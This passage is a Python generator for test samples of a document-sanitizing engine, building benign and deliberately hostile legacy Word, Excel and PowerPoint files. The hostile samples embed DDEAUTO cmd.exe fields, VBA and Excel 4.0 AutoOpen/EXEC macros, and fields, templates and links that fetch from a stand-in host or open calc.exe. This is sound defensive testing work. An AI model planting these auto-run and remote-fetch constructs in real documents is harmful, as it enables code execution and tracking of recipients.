"""Samples for legacy Office, RTF, ODF, 一太郎 and DocuWorks.

Legacy .doc/.xls/.ppt are made by LibreOffice from python-docx/openpyxl/python-pptx output
(three soffice runs plus one for the encrypted file). Hostile variants are built by rewriting
the OLE container with the engine's compound-file writer (cdr/formats/legacy_office/cfb.py):
it adds a VBA project storage, an ObjectPool object, or flips a BIFF sheet to an Excel 4.0 macro
sheet. The VBA streams only carry placeholder bytes: enough for oletools to find the project,
not runnable code.
"""
from __future__ import annotations

import io
import shutil
import struct
import subprocess
import tempfile
import zipfile
from pathlib import Path

from . import Sample, generator
from . import xls_samples as xs

JA_TITLE = "住民票の写しの交付申請書"
JA_BODY = "申請者の氏名：山田太郎。住所：東京都千代田区霞が関一丁目。電話番号は〇三―一二三四―五六七八です。"
ENC_PASSWORD = "himitsu-2026"

def write_cfb(streams: dict[str, bytes], storages: tuple[str, ...] = (), clsids: dict[str, bytes] | None = None
              ) -> bytes:
    """A compound file with the engine's writer (cdr/formats/legacy_office/cfb.py)."""
    from cdr.formats.legacy_office import cfb

    return cfb.write(streams, storages, clsids)


def ole_streams(path: Path) -> tuple[dict[str, bytes], tuple[str, ...]]:
    import olefile

    with olefile.OleFileIO(str(path)) as ole:
        streams = {"/".join(e): ole.openstream(e).read() for e in ole.listdir(streams=True, storages=False)}
        storages = tuple("/".join(e) for e in ole.listdir(streams=False, storages=True))
    return streams, storages


# --- LibreOffice helpers --------------------------------------------------------------------------

_SAVE_ENC = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
Sub SaveEnc(src As String, dst As String, filt As String, pw As String)
  Dim a(0) As New com.sun.star.beans.PropertyValue
  a(0).Name = &quot;Hidden&quot; : a(0).Value = True
  doc = StarDesktop.loadComponentFromURL(ConvertToURL(src), &quot;_blank&quot;, 0, a())
  Dim b(1) As New com.sun.star.beans.PropertyValue
  b(0).Name = &quot;FilterName&quot; : b(0).Value = filt
  b(1).Name = &quot;Password&quot; : b(1).Value = pw
  doc.storeToURL(ConvertToURL(dst), b())
  doc.close(True)
End Sub
Sub SaveTwo(src As String, dst As String, filt As String, src2 As String, dst2 As String, filt2 As String, pw As String)
  SaveEnc(src, dst, filt, pw)
  SaveEnc(src2, dst2, filt2, pw)
End Sub
</script:module>
"""


def _soffice(profile: Path, *args: str) -> None:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        raise RuntimeError("LibreOffice (soffice) is needed to generate legacy Office samples")
    subprocess.run([exe, "--headless", "--norestore", "--nologo", f"-env:UserInstallation={profile.as_uri()}",
                    *args], check=True, capture_output=True, timeout=180)


def _png(w: int = 24, h: int = 16, color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (w, h), color).save(buf, "PNG")
    return buf.getvalue()


def _make_docx(path: Path) -> None:
    import docx
    from docx.shared import Cm

    d = docx.Document()
    d.add_heading(JA_TITLE, 1)
    d.add_paragraph(JA_BODY)
    t = d.add_table(rows=2, cols=2)
    t.cell(0, 0).text, t.cell(0, 1).text = "項目", "内容"
    t.cell(1, 0).text, t.cell(1, 1).text = "交付枚数", "２通"
    d.add_picture(io.BytesIO(_png()), width=Cm(2))
    d.save(str(path))


def _make_xlsx(path: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "集計"
    ws.append(["区分", "件数", "金額"])
    ws.append(["住民票", 12, 3600])
    ws.append(["印鑑証明", 5, 1500])
    ws["B4"] = "=SUM(B2:B3)"
    ws["C4"] = "=SUM(C2:C3)"
    wb.save(str(path))


def _make_pptx(path: Path) -> None:
    from pptx import Presentation

    p = Presentation()
    for i in range(2):
        s = p.slides.add_slide(p.slide_layouts[1])
        s.shapes.title.text = f"{JA_TITLE} {i + 1}"
        s.placeholders[1].text = "窓口の受付時間は午前八時三十分から午後五時十五分までです。"
    p.save(str(path))


def _vba_streams(root: str) -> dict[str, bytes]:
    # Placeholder bytes in the streams a VBA project must have (MS-OVBA 2.2.1).
    return {
        f"{root}/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
        f"{root}/PROJECTwm": b"ThisDocument\0T\0h\0i\0s\0D\0o\0c\0u\0m\0e\0n\0t\0\0\0\0\0",
        f"{root}/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        f"{root}/VBA/dir": b"\x01\x00\x00\x00",
        f"{root}/VBA/ThisDocument": b"\x00" * 16 + b"Attribut\x00e VB_Name = \"ThisDocument\"\r\n"
                                    b"Sub AutoOpen()\r\n Shell \"calc.exe\"\r\nEnd Sub\r\n",
    }


def _set_sheet_type(workbook: bytes, dt: int) -> bytes:
    """Set the type byte of the first BOUNDSHEET8 record (1 = Excel 4.0 macro sheet)."""
    data = bytearray(workbook)
    pos = 0
    while pos + 4 <= len(data):
        rtype, size = struct.unpack_from("<HH", data, pos)
        if rtype == 0x0085:
            data[pos + 4 + 5] = dt
            return bytes(data)
        pos += 4 + size
    raise ValueError("no BOUNDSHEET record")


def _ole1_package(payload: bytes, filename: str = "invoice.js") -> bytes:
    """An OLE 1.0 embedded 'Package' object, as \\objdata carries it."""
    native = (struct.pack("<H", 2) + filename.encode() + b"\0" + b"C:\\tmp\\" + filename.encode() + b"\0"
              + struct.pack("<HH", 0, 3) + struct.pack("<I", len("C:\\tmp\\" + filename) + 1)
              + b"C:\\tmp\\" + filename.encode() + b"\0" + struct.pack("<I", len(payload)) + payload)
    return (struct.pack("<II", 0x0501, 2) + struct.pack("<I", 8) + b"Package\0" + struct.pack("<II", 0, 0)
            + struct.pack("<I", len(native)) + native)


@generator("legacy_office")
def legacy_office(out: Path) -> list[Sample]:
    base = out / "legacy_office"
    (base / "benign").mkdir(parents=True, exist_ok=True)
    (base / "hostile").mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    with tempfile.TemporaryDirectory(prefix="cdr-lo-samples-") as tmp:
        t = Path(tmp)
        prof = t / "profile"
        src = t / "src"
        src.mkdir()
        _make_docx(src / "doc.docx")
        _make_xlsx(src / "xls.xlsx")
        _make_pptx(src / "ppt.pptx")
        xs.make_rich_xlsx(src / "rich.xlsx")
        xs.make_rich_xlsx(src / "rich_hostile.xlsx", hostile=True)
        _odf(src / "obj.ods", ODS, xs.object_ods_body(), {"Object 1/content.xml": _SUBDOC,
                                                          "ObjectReplacements/Object 1": _png(80, 40)},
             {"Object 1/": ODT, "ObjectReplacements/Object 1": "image/png"})
        _odf(src / "form.ods", ODS, xs.form_ods_body())
        # An ODT with an embedded sub-document: LibreOffice writes it to .doc as a real ObjectPool object.
        _odf(src / "embedded.odt", ODT, _ODT_TEXT + '<text:p><draw:frame svg:width="4cm" svg:height="2cm">'
             '<draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
             "</draw:frame></text:p>",
             {"Pictures/seal.png": _png(), "Object 1/content.xml": _SUBDOC, "ObjectReplacements/Object 1": _png()},
             {"Object 1/": ODT, "ObjectReplacements/Object 1": "image/png"})
        conv = t / "conv"
        _soffice(prof, "--convert-to", "doc:MS Word 97", "--outdir", str(conv), str(src / "doc.docx"),
                 str(src / "embedded.odt"))
        _soffice(prof, "--convert-to", "xls:MS Excel 97", "--outdir", str(conv), str(src / "xls.xlsx"),
                 *(str(src / n) for n in ("rich.xlsx", "rich_hostile.xlsx", "obj.ods", "form.ods")))
        _soffice(prof, "--convert-to", "ppt:MS PowerPoint 97", "--outdir", str(conv), str(src / "ppt.pptx"))
        mod = prof / "user" / "basic" / "Standard" / "Module1.xba"
        if mod.parent.is_dir():
            mod.write_text(_SAVE_ENC, "utf-8")
            _soffice(prof, f'macro:///Standard.Module1.SaveTwo("{src / "doc.docx"}","{conv / "enc.doc"}",'
                           f'"MS Word 97","{conv / "xls.xls"}","{conv / "enc.xls"}","MS Excel 97","{ENC_PASSWORD}")')
        doc = (conv / "doc.doc").read_bytes()
        xls = (conv / "xls.xls").read_bytes()
        (base / "benign" / "申請書.doc").write_bytes(doc)
        samples.append(Sample("legacy_office/benign/申請書.doc", "clean", [], note="Japanese text, table, picture"))
        (base / "benign" / "集計.xls").write_bytes(xls)
        samples.append(Sample("legacy_office/benign/集計.xls", "clean", [], note="formulas with cached values"))
        shutil.copyfile(conv / "ppt.ppt", base / "benign" / "説明資料.ppt")
        samples.append(Sample("legacy_office/benign/説明資料.ppt", "clean", []))

        streams, storages = ole_streams(conv / "doc.doc")
        wd = bytearray(streams["WordDocument"])
        wd[0x0A] |= 0x01  # FibBase.fDot: a template
        (base / "benign" / "様式.dot").write_bytes(write_cfb({**streams, "WordDocument": bytes(wd)}, storages))
        samples.append(Sample("legacy_office/benign/様式.dot", "clean", [], note="Word 97 template -> .docx"))

        (base / "hostile" / "vba_autoopen.doc").write_bytes(write_cfb({**streams, **_vba_streams("Macros")},
                                                                      storages))
        samples.append(Sample("legacy_office/hostile/vba_autoopen.doc", "sanitized", ["ole.vba"],
                              note="VBA project storage (placeholder code)"))
        ole_obj = {"ObjectPool/_1234567890/\x01Ole10Native": struct.pack("<I", 12) + b"MZ\x90\0payload!",
                   "ObjectPool/_1234567890/\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00" + b"\0" * 20}
        (base / "hostile" / "ole_object.doc").write_bytes(write_cfb({**streams, **ole_obj}, storages))
        samples.append(Sample("legacy_office/hostile/ole_object.doc", "sanitized", ["ole.object"]))

        shutil.copyfile(conv / "embedded.doc", base / "hostile" / "embedded_document.doc")
        samples.append(Sample("legacy_office/hostile/embedded_document.doc", "sanitized", ["ole.object"],
                              note="object written by LibreOffice (ObjectPool and EMBED field); its picture stays"))

        xstreams, xstorages = ole_streams(conv / "xls.xls")
        xstreams["Workbook"] = _set_sheet_type(xstreams["Workbook"], 0x01)
        (base / "hostile" / "xlm_macrosheet.xls").write_bytes(
            write_cfb({**xstreams, **_vba_streams("_VBA_PROJECT_CUR")}, xstorages))
        samples.append(Sample("legacy_office/hostile/xlm_macrosheet.xls", "sanitized", ["ole.xlm", "ole.vba"]))

        samples += _xls_samples(base, conv, xstreams, xstorages)

        if (conv / "enc.doc").exists():
            shutil.copyfile(conv / "enc.doc", base / "hostile" / "encrypted.doc")
            samples.append(Sample("legacy_office/hostile/encrypted.doc", "blocked", ["ole.encrypted"],
                                  note="RC4 CryptoAPI; sanitized when the password is given",
                                  password=ENC_PASSWORD))
        if (conv / "enc.xls").exists():
            shutil.copyfile(conv / "enc.xls", base / "hostile" / "encrypted.xls")
            samples.append(Sample("legacy_office/hostile/encrypted.xls", "blocked", ["ole.encrypted"],
                                  note="FILEPASS (RC4 CryptoAPI); rebuilt as .xls when the password is given",
                                  password=ENC_PASSWORD))
    return samples


# --- .doc constructs (headers per section, furigana, form fields, fields that fetch or run) --------

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
# Every placeholder link is this long so that any field instruction patched over it fits.
_LONG_URL = "https://www.city.example.lg.jp/" + "p" * 160


def _field_runs(paragraph, instr: str, result: str, ffdata: str = "") -> None:
    """A complex field (begin, instruction, separate, result, end) appended to a paragraph."""
    p = paragraph._p
    for xml in (f'<w:r {_W}><w:fldChar w:fldCharType="begin">{ffdata}</w:fldChar></w:r>',
                f'<w:r {_W}><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>',
                f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>',
                f'<w:r {_W}><w:t xml:space="preserve">{result}</w:t></w:r>',
                f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>'):
        from docx.oxml import parse_xml

        p.append(parse_xml(xml))


def _ruby(paragraph, base: str, reading: str) -> None:
    from docx.oxml import parse_xml

    paragraph._p.append(parse_xml(
        f'<w:r {_W}><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/><w:hps w:val="10"/>'
        f'<w:hpsRaise w:val="18"/><w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/></w:rubyPr>'
        f'<w:rt><w:r><w:t>{reading}</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>{base}</w:t></w:r></w:rubyBase>'
        "</w:ruby></w:r>"))


def _make_form_docx(path: Path) -> None:
    """Two sections with first-page and even/odd headers and footers, furigana, a form checkbox, a
    text form field, a web link, a table and a picture: what a municipal form template holds."""
    import docx
    from docx.enum.section import WD_SECTION
    from docx.enum.text import WD_BREAK
    from docx.shared import Cm

    d = docx.Document()
    d.settings.odd_and_even_pages_header_footer = True
    s1 = d.sections[0]
    s1.different_first_page_header_footer = True
    s1.first_page_header.paragraphs[0].text = "様式第一号（表紙）"
    s1.header.paragraphs[0].text = "住民票の写し等交付申請書（奇数ページ）"
    s1.even_page_header.paragraphs[0].text = "住民票の写し等交付申請書（偶数ページ）"
    s1.first_page_footer.paragraphs[0].text = "千代田区役所 区民課"
    s1.footer.paragraphs[0].text = "奇数ページのフッター"
    s1.even_page_footer.paragraphs[0].text = "偶数ページのフッター"
    d.add_heading(JA_TITLE, 1)
    p = d.add_paragraph("申請者：")
    _ruby(p, "山田", "やまだ")
    _ruby(p, "太郎", "たろう")
    p.add_run("（ふりがなを付けてください）")
    p = d.add_paragraph("本人確認書類を提示しました ")
    _field_runs(p, "FORMCHECKBOX", "", '<w:ffData><w:name w:val="Check1"/><w:enabled/><w:calcOnExit w:val="0"/>'
                '<w:checkBox><w:sizeAuto/><w:default w:val="1"/></w:checkBox></w:ffData>')
    p = d.add_paragraph("郵送を希望します ")
    _field_runs(p, "FORMCHECKBOX", "", '<w:ffData><w:name w:val="Check2"/><w:enabled/><w:calcOnExit w:val="0"/>'
                '<w:checkBox><w:sizeAuto/><w:default w:val="0"/></w:checkBox></w:ffData>')
    p = d.add_paragraph("詳しくは")
    _field_runs(p, 'HYPERLINK "https://www.city.example.lg.jp/koseki/"', "区のホームページ")
    p.add_run("をご覧ください。")
    t = d.add_table(rows=3, cols=3)
    t.style = "Table Grid"
    for r, row in enumerate((("区分", "通数", "手数料"), ("住民票の写し", "２", "600円"), ("印鑑登録証明書", "１", "300円"))):
        for c, v in enumerate(row):
            t.cell(r, c).text = v
    d.add_picture(io.BytesIO(_png(48, 32)), width=Cm(3))
    for page in range(2, 4):
        d.paragraphs[-1].add_run().add_break(WD_BREAK.PAGE)
        d.add_paragraph(f"{page}ページ目：{JA_BODY}")
    s2 = d.add_section(WD_SECTION.NEW_PAGE)
    s2.header.is_linked_to_previous = False
    s2.header.paragraphs[0].text = "第二節のヘッダー（委任状）"
    s2.first_page_header.is_linked_to_previous = False
    s2.first_page_header.paragraphs[0].text = "委任状（第二節の最初のページ）"
    d.add_heading("委任状", 2)
    d.add_paragraph("私は、上記の者を代理人と定め、住民票の写しの請求及び受領の権限を委任します。")
    d.save(str(path))


def _make_fields_docx(path: Path) -> None:
    """Paragraphs each holding a long web link (a field the hostile variants rewrite in place) and
    one link around a picture."""
    import docx
    from docx.oxml import parse_xml

    d = docx.Document()
    d.add_heading(JA_TITLE, 1)
    for label in ("計算結果", "取り込んだ本文", "ここをクリック", "共有フォルダー"):
        p = d.add_paragraph(f"{label}：")
        _field_runs(p, f'HYPERLINK "{_LONG_URL}"', label)
    d.add_paragraph(JA_BODY)
    p = d.add_paragraph("ロゴ：")
    run = d.add_paragraph().add_run()
    run.add_picture(io.BytesIO(_png(40, 40, (30, 90, 200))))
    drawing = run._r[-1]
    run._r.remove(drawing)
    p._p.append(parse_xml(f'<w:r {_W}><w:fldChar w:fldCharType="begin"/></w:r>'))
    p._p.append(parse_xml(f'<w:r {_W}><w:instrText xml:space="preserve"> HYPERLINK "{_LONG_URL}" </w:instrText></w:r>'))
    p._p.append(parse_xml(f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>'))
    holder = parse_xml(f"<w:r {_W}/>")
    holder.append(drawing)
    p._p.append(holder)
    p._p.append(parse_xml(f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>'))
    d.save(str(path))


def _doc_parts(data: bytes):
    """The engine's own .doc walker, used to find where to patch a hostile variant."""
    import olefile

    from cdr.formats.legacy_office.doc import DocRebuild

    with olefile.OleFileIO(data) as ole:
        streams = {"/".join(e): ole.openstream(e).read() for e in ole.listdir()}
        storages = tuple("/".join(e) for e in ole.listdir(streams=False, storages=True))
    r = DocRebuild(streams)
    r.check_pairs()
    r.read_pieces()
    r.read_fkps()
    return r, streams, storages


def _patch_fields(data: bytes, codes: list[tuple[int, tuple[int, str]]]) -> bytes:
    """Rewrite the instruction of the n-th main-text field in place (same length, padded) and its
    cached field type (flt)."""
    r, streams, storages = _doc_parts(data)
    fields = [f for f in r.read_fields() if f.plc == "PlcfFldMom"]
    wd = bytearray(streams["WordDocument"])
    table = bytearray(streams[r.fib.table_name])
    fc, lcb = r.fib.pair("PlcfFldMom")
    n = (lcb - 4) // 6
    for index, code in codes:
        f = fields[index]
        cps, old, _nested, _glued = r.instruction(f)
        text = f"{code[1]} ".ljust(len(cps))  # no leading space: msodde only sees DDE at the very start
        if len(text) > len(cps):
            raise ValueError("field instruction does not fit")
        for cp, ch in zip(cps, text, strict=True):
            pos, width = r.byte_of(cp)
            wd[pos:pos + width] = ch.encode("cp1252" if width == 1 else "utf-16-le")
        table[fc + 4 * (n + 1) + 2 * f.begin_fld + 1] = code[0]
    return write_cfb({**streams, "WordDocument": bytes(wd), r.fib.table_name: bytes(table)}, storages)


def _append_pairs(data: bytes, pairs: dict[str, bytes], extra: dict[str, bytes] | None = None) -> bytes:
    """Add table-stream structures (remote template, toolbars, macro names) by appending them to the
    table stream and pointing their FIB pairs at them."""
    from cdr.formats.legacy_office.docfib import INDEX

    r, streams, storages = _doc_parts(data)
    wd = bytearray(streams["WordDocument"])
    table = bytearray(streams[r.fib.table_name])
    for name, blob in pairs.items():
        struct.pack_into("<II", wd, r.fib.rgfclcb_at + 8 * INDEX[name], len(table), len(blob))
        table += blob
    return write_cfb({**streams, **(extra or {}), "WordDocument": bytes(wd), r.fib.table_name: bytes(table)},
                     storages)


def _sttb(values: list[str]) -> bytes:
    return b"\xff\xff" + struct.pack("<HH", len(values), 0) + b"".join(
        struct.pack("<H", len(v)) + v.encode("utf-16-le") for v in values)


def _form_macro(data: bytes, entry: str) -> bytes:
    """Give the first form field an entry macro: its FFData is rewritten at the end of the Data
    stream and the field's picture location points there."""
    from cdr.formats.legacy_office.doc import SPRM_FDATA, SPRM_PIC_LOCATION

    r, streams, storages = _doc_parts(data)
    fields = r.read_fields()
    form = next(f for f in fields if "FORMCHECKBOX" in r.instruction(f)[1])
    ch = next(c for c in map(r.chpx_of_cp, range(form.begin, form.sep or form.end))
              if c is not None and c.value(r.wd, SPRM_FDATA))
    wd = bytearray(streams["WordDocument"])
    data_stream = bytearray(streams["Data"])
    off = ch.value(r.wd, SPRM_PIC_LOCATION)
    lcb = struct.unpack_from("<I", data_stream, off)[0]
    block = bytes(data_stream[off:off + lcb])
    head, ff = block[:0x44], block[0x44:]
    pos = 10
    for step in range(5):  # name, wDef (a checkbox), format, help, status: skip to the macros
        pos += 2 if step == 1 else 4 + 2 * struct.unpack_from("<H", ff, pos)[0]
    xst = struct.pack("<H", len(entry)) + entry.encode("utf-16-le") + b"\0\0"
    new_ff = ff[:pos] + xst + ff[pos + 4:]
    new = struct.pack("<I", 0x44 + len(new_ff)) + head[4:] + new_ff
    at = len(data_stream)
    data_stream += new
    wd[ch.props[SPRM_PIC_LOCATION][0]:ch.props[SPRM_PIC_LOCATION][0] + 4] = struct.pack("<I", at)
    return write_cfb({**streams, "WordDocument": bytes(wd), "Data": bytes(data_stream)}, storages)


def _link_picture(data: bytes, field_index: int, url: str) -> bytes:
    """Make the picture in a field's result a linked one (PICF mm = MM_SHAPEFILE and the path after
    the header), as Word stores INCLUDEPICTURE \\d: the block is rewritten at the end of Data."""
    from cdr.formats.legacy_office.doc import SPRM_PIC_LOCATION

    r, streams, storages = _doc_parts(data)
    f = [f for f in r.read_fields() if f.plc == "PlcfFldMom"][field_index]
    ch = next(c for c in map(r.chpx_of_cp, range(f.sep + 1, f.end))
              if c is not None and c.value(r.wd, SPRM_PIC_LOCATION) is not None)
    wd = bytearray(streams["WordDocument"])
    data_stream = bytearray(streams["Data"])
    off = ch.value(r.wd, SPRM_PIC_LOCATION)
    block = bytes(data_stream[off:off + struct.unpack_from("<I", data_stream, off)[0]])
    name = url.encode("cp1252")
    new = bytearray(block[:0x44] + bytes([len(name)]) + name + block[0x44:])
    struct.pack_into("<IHH", new, 0, len(new), 0x44, 0x66)
    at = len(data_stream)
    data_stream += new
    pos = ch.props[SPRM_PIC_LOCATION][0]
    wd[pos:pos + 4] = struct.pack("<I", at)
    return write_cfb({**streams, "WordDocument": bytes(wd), "Data": bytes(data_stream)}, storages)


@generator("legacy_office")
def legacy_doc_samples(out: Path) -> list[Sample]:
    """.doc files carrying each construct the native .doc rebuild keeps or removes."""
    base = out / "legacy_office"
    (base / "benign").mkdir(parents=True, exist_ok=True)
    (base / "hostile").mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    with tempfile.TemporaryDirectory(prefix="cdr-doc-samples-") as tmp:
        t = Path(tmp)
        _make_form_docx(t / "form.docx")
        _make_fields_docx(t / "fields.docx")
        _soffice(t / "profile", "--convert-to", "doc:MS Word 97", "--outdir", str(t), str(t / "form.docx"),
                 str(t / "fields.docx"))
        form = (t / "form.doc").read_bytes()
        fields = (t / "fields.doc").read_bytes()
    (base / "benign" / "交付申請様式.doc").write_bytes(form)
    samples.append(Sample("legacy_office/benign/交付申請様式.doc", "clean", [],
                          note="sections with first-page and even/odd headers, furigana, form checkboxes, web link"))
    (base / "benign" / "リンク付き.doc").write_bytes(fields)
    samples.append(Sample("legacy_office/benign/リンク付き.doc", "clean", [], note="web links, one around a picture"))

    def put(name: str, data: bytes, threats: list[str], note: str) -> None:
        (base / "hostile" / name).write_bytes(data)
        samples.append(Sample(f"legacy_office/hostile/{name}", "sanitized", threats, note=note))

    put("dde_fields.doc", _patch_fields(fields, [
        (0, (0x2E, 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
        (1, (0x2D, 'DDE "C:\\\\Program Files\\\\Microsoft Office\\\\MSWORD.EXE" "x" "y"'))]),
        ["ole.dde"], "DDEAUTO and DDE fields; results kept")
    put("include_fields.doc", _patch_fields(fields, [
        (1, (0x44, 'INCLUDETEXT "\\\\\\\\203.0.113.9\\\\share\\\\body.docx"')),
        (4, (0x43, 'INCLUDEPICTURE "http://203.0.113.9/track.png"'))]),
        ["ole.field"], "INCLUDETEXT from a share, INCLUDEPICTURE from the web (picture result kept)")
    put("linked_picture.doc", _link_picture(_patch_fields(fields, [
        (4, (0x43, 'INCLUDEPICTURE "http://203.0.113.9/track.png" \\\\d'))]), 4, "http://203.0.113.9/track.png"),
        ["ole.field", "ole.external_link"], "INCLUDEPICTURE \\d: a picture linked to a web address")
    put("macrobutton.doc", _patch_fields(fields, [(2, (0x33, "MACROBUTTON AutoOpen ここをクリック"))]),
        ["ole.macro_reference"], "MACROBUTTON field")
    put("file_hyperlink.doc", _patch_fields(fields, [
        (2, (0x58, 'HYPERLINK "file:///C:/Windows/System32/calc.exe"')),
        (3, (0x58, 'HYPERLINK "\\\\\\\\203.0.113.9\\\\share\\\\a.lnk"'))]),
        ["ole.hyperlink"], "links to a program and to a share; text kept")
    put("remote_template.doc", _append_pairs(form, {"SttbfAssoc": _sttb(
        ["", "\\\\203.0.113.9\\templates\\normal.dotm", "交付申請書", "", "", "", "山田太郎", "山田太郎"]
        + [""] * 10)}), ["ole.remote_template"], "attached template on a share; author in the associated strings")
    put("toolbar_macros.doc", _append_pairs(form, {"Cmds": b"\x0c\x00" + b"\x01" * 30,
                                                   "SttbfMcr": _sttb(["Project.Module1.AutoOpen"])},
                                            _vba_streams("Macros")),
        ["ole.vba", "ole.customization"], "VBA project, macro names and toolbar customisation")
    put("formfield_macro.doc", _form_macro(form, "AutoOpen"), ["ole.macro_reference"],
        "form checkbox running a macro on entry")
    return samples


def _xls_samples(base: Path, conv: Path, xstreams: dict[str, bytes], xstorages: tuple[str, ...]) -> list[Sample]:
    """Excel constructs, each in its own file (see xls_samples.py)."""
    out: list[Sample] = []

    import uuid

    import olefile

    with olefile.OleFileIO(str(conv / "xls.xls")) as ole:  # the root CLSID LibreOffice gives a workbook
        clsid = {"": uuid.UUID(ole.root.clsid).bytes_le} if ole.root.clsid else {}

    def put(rel: str, streams: dict[str, bytes], storages: tuple[str, ...], verdict: str, threats: list[str],
            note: str) -> None:
        (base / rel).write_bytes(write_cfb(streams, storages, clsid))
        out.append(Sample(f"legacy_office/{rel}", verdict, threats, note=note))

    plain = ole_streams(conv / "xls.xls")[0]
    rich, rich_st = ole_streams(conv / "rich.xls")
    put("benign/申請一覧.xls", {**rich, "Workbook": xs.with_furigana(rich["Workbook"])}, rich_st, "clean", [],
        "styles, merged cells, picture, chart, comment, validation, conditional format, first-page header, "
        "web link, hidden sheet, furigana")
    form, form_st = ole_streams(conv / "form.xls")
    put("benign/同意書.xls", form, form_st, "clean", [], "check box form control")
    put("hostile/xls_macros.xls", {**plain, "Workbook": xs.macros_everywhere(plain["Workbook"]),
                                   **_vba_streams("_VBA_PROJECT_CUR")}, (), "sanitized", ["ole.xlm", "ole.vba"],
        "Excel 4.0 macro sheet with EXEC, Auto_Open and Auto_Close names, OBPROJ, VBA storage")
    put("hostile/xls_links.xls", {**plain, "Workbook": xs.links_and_functions(plain["Workbook"])}, (), "sanitized",
        ["ole.external_link", "ole.dde", "ole.dangerous_function", "ole.hyperlink"],
        "link to another workbook, DDE, EXEC, HYPERLINK with a computed target (cached values)")
    hostile, hostile_st = ole_streams(conv / "rich_hostile.xls")
    put("hostile/xls_hidden_links.xls", {**hostile, "Workbook": xs.very_hidden(hostile["Workbook"], "設定")},
        hostile_st, "sanitized", ["ole.hidden_sheet", "ole.hyperlink"], "veryHidden sheet, file: hyperlink")
    obj, obj_st = ole_streams(conv / "obj.xls")
    put("hostile/xls_object.xls", obj, obj_st, "sanitized", ["ole.object"],
        "embedded document (MBD storage) with a preview picture")
    put("hostile/xls_controls.xls", {**form, "Workbook": xs.shape_macro(form["Workbook"]), "Ctls": b"\0" * 64},
        form_st, "sanitized", ["ole.macro_reference", "ole.activex"], "macro assigned to a check box, ActiveX stream")
    return out


# --- .ppt constructs (hidden slides, notes, links, click actions, objects, VBA) -----------------------


def _make_slides_pptx(path: Path, hostile: bool = False) -> None:
    """Three slides: text with a web link, a picture and speaker notes; a hidden slide; a contact
    slide. The hostile variant adds shapes whose click opens a program or a share."""
    from lxml import etree
    from pptx import Presentation
    from pptx.oxml.ns import qn
    from pptx.util import Cm

    p = Presentation()
    s = p.slides.add_slide(p.slide_layouts[1])
    s.shapes.title.text = JA_TITLE
    tf = s.placeholders[1].text_frame
    tf.text = "受付時間は午前八時三十分から午後五時十五分までです。"
    run = tf.add_paragraph().add_run()
    run.text = "区のホームページ"
    run.hyperlink.address = "https://www.city.example.lg.jp/"
    s.shapes.add_picture(io.BytesIO(_png(60, 40, (30, 120, 60))), Cm(18), Cm(12), Cm(4), Cm(3))
    s.notes_slide.notes_text_frame.text = "説明者メモ：手数料の改定について補足する。"
    hidden = p.slides.add_slide(p.slide_layouts[5])
    hidden.shapes.title.text = "非表示の補足スライド"
    hidden._element.set("show", "0")
    s3 = p.slides.add_slide(p.slide_layouts[1])
    s3.shapes.title.text = "お問い合わせ"
    s3.placeholders[1].text_frame.text = "市民課 窓口係"
    if hostile:
        for i, (label, target) in enumerate((("ここをクリック", "file:///C:/Windows/System32/calc.exe"),
                                             ("共有フォルダー", "file://///203.0.113.9/share/a.lnk"),
                                             ("マクロ", "https://www.city.example.lg.jp/macro"))):
            box = s3.shapes.add_textbox(Cm(2 + 8 * i), Cm(14), Cm(7), Cm(2))
            box.text_frame.text = label
            rid = s3.part.relate_to(target, "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                    "hyperlink", is_external=True)
            link = etree.SubElement(box._element.nvSpPr.cNvPr, qn("a:hlinkClick"))
            link.set(qn("r:id"), rid)
    p.save(str(path))


def _ppt_live(data: bytes):
    """The engine's own walker over a .ppt: (streams, storages, persist map, newest edit offset)."""
    import olefile

    from cdr.formats.legacy_office.ppt import PptRebuild

    with olefile.OleFileIO(data) as ole:
        streams = {"/".join(e): ole.openstream(e).read() for e in ole.listdir()}
        storages = tuple("/".join(e) for e in ole.listdir(streams=False, storages=True))
    r = PptRebuild(streams)
    offset, _rel = r.current_user()
    objects, _edit = r.persist_map(offset)
    return r, streams, storages, objects, offset


def _ppt_incremental(data: bytes, change) -> bytes:
    """An incremental save, as PowerPoint writes one: changed and new persist objects appended to
    the stream, a persist directory for them and a UserEditAtom chained to the previous edit.
    `change(load, seed)` returns {persist id: record}."""
    from cdr.formats.legacy_office.records import Rec

    r, streams, storages, objects, last = _ppt_live(data)
    doc = bytearray(streams["PowerPoint Document"])
    # LibreOffice writes VBAInfoAtom.version 1 where [MS-PPT] says 2; oletools then stops reading.
    at = doc.find(b"\x02\x00\x00\x04\x0c\x00\x00\x00")
    while at >= 0:
        struct.pack_into("<I", doc, at + 16, 2)
        at = doc.find(b"\x02\x00\x00\x04\x0c\x00\x00\x00", at + 1)
    edit = r.load({0: last}, 0)
    seed = max(struct.unpack_from("<I", edit.body, 20)[0], max(objects) + 1)
    changed = change(lambda pid: r.load(objects, pid), seed)
    entries = b""
    for pid, rec in sorted(changed.items()):
